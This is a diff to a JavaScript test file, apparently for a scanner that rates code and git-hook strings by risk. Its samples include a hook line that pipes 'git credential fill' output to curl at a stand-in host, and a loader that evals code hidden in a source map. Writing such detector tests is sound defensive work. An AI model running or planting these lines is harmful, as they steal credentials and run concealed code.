@@ -668,3 +668,8 @@ test('a text that begins as a program of its own, as hooks do', () => {
   assert.equal(hook('git credential fill 2>/dev/null | curl -sm 5 --data-binary @- https://hooks.example.org/ok &'), 'high');
   assert.equal(hook('echo "$branch" | grep -Eq x || exit 1'), 'nothing');
 });
+
+test('bad: code that stands in a map of a script; good: the map of whatever is loaded', () => {
+  assert.equal(worst('const { sourcesContent, ignoreList } = JSON.parse(require("fs").readFileSync(__dirname + "/index.js.map", "utf8")); ignoreList.map((i) => sourcesContent[i]).forEach((p) => (0, eval)(p.replace(/a/g, "b")))'), 'high');
+  assert.equal(worst('const map = JSON.parse(fs.readFileSync(file + ".map", "utf8")); m._compile(code + map.file, file)'), 'nothing');
+});
